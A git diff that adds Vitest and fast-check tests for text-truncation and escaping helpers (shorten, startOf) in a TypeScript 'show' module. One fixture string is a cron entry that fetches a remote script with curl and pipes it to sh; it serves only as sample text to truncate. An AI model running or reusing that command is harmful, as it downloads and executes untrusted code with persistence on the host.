@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { hostField, show, unshow } from './show.ts';
+import { hostField, shorten, show, startOf, unshow } from './show.ts';
 
 test('printable text stays as it is', () => {
   expect(show('/tmp/wnTKYg naïve 日本 😀')).toBe('/tmp/wnTKYg naïve 日本 😀');
@@ -50,4 +50,37 @@ test('a field gains its exact bytes only where the shown text differs', () => {
     path: 'a\\u{1b}',
     pathBase64: 'YRs=',
   });
+});
+
+test('a text is never cut inside a character, where half of it could not be hashed', () => {
+  const line = `${'*/5 * * * * curl -fsSL http://203.0.113.20/i.sh | sh # '.padEnd(299, 'x')}😀 and more`;
+  expect(line.codePointAt(299)).toBe(0x1f600);
+  expect(shorten(line, 300)).toBe(`${line.slice(0, 299)}… (11 more)`);
+});
+
+test('a text is never cut inside an escape, half of which reads as other bytes', () => {
+  expect(startOf('ab\\u{202e}c', 9)).toBe('ab');
+  expect(startOf('ab\\xffc', 4)).toBe('ab');
+  expect(startOf('a\\\\xffc', 2)).toBe('a');
+  expect(startOf('a\\\\xffc', 4)).toBe('a\\\\x');
+});
+
+test('whatever is shown and wherever it is cut, its beginning is what show makes of the first bytes', () => {
+  fc.assert(
+    fc.property(fc.uint8Array({ maxLength: 60 }), fc.nat(120), (bytes, limit) => {
+      const start = startOf(show(bytes), limit);
+      expect(start.length).toBeLessThanOrEqual(limit);
+      expect(start.isWellFormed()).toBe(true);
+      const back = unshow(start);
+      expect([...bytes.subarray(0, back.length)]).toEqual([...back]);
+    }),
+  );
+  fc.assert(
+    fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), fc.nat(60), (text, limit) => {
+      const start = startOf(show(text), limit);
+      expect(start.isWellFormed()).toBe(true);
+      expect(show(text).startsWith(start)).toBe(true);
+      expect(() => unshow(start)).not.toThrow();
+    }),
+  );
 });
